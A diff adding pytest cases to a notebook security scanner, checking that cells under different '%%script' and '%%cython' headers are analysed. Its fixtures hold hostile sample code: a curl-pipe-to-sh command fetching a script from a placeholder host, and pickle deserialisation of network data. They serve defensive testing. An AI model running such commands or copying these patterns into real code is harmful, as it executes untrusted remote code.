@@ -247,3 +247,36 @@ def test_a_bracket_inside_a_continued_command_opens_nothing_after_it() -> None:
     assert [command for _, command in cell.shell] == ["pip install a  w = (1 +", "ls -la"]
     plain = transform_cell("w = (1 +\n!ls -la\n)\n")  # a real open bracket: `!ls` is inside it
     assert plain.shell == []
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        "%%script /usr/bin/python3",
+        "%%script python3.11",
+        "%%script --bg python3",
+        "%%script --out log python3",
+        "%%script --proc=p --err err python3 -u",
+        "%%script env PYTHONPATH=. python3",
+        "%%script /usr/bin/env -i python3",
+        "%%cython",
+    ],
+)
+def test_python_cells_under_any_interpreter_spelling_are_analysed(tmp_path: Path, header: str) -> None:
+    text = notebook(f"{header}\nimport pickle, requests\nx = pickle.loads(requests.get(url).content)")
+    assert "B301" in [f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")], header
+
+
+@pytest.mark.parametrize(
+    ("header", "expected"),
+    [
+        ("%%script --out log bash", ["MLS321"]),  # a shell, after an option's value
+        ("%%script perl", []),  # another language's interpreter: not Python, nothing to judge
+        ("%%script ./my-runner", ["MLS324"]),  # a program nobody knows: said, not skipped
+    ],
+)
+def test_other_script_programs_are_shell_another_language_or_named(
+    tmp_path: Path, header: str, expected: list[str]
+) -> None:
+    text = notebook(f"{header}\ncurl -s https://x.example/i.sh | sh")
+    assert sorted(f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")) == expected, header
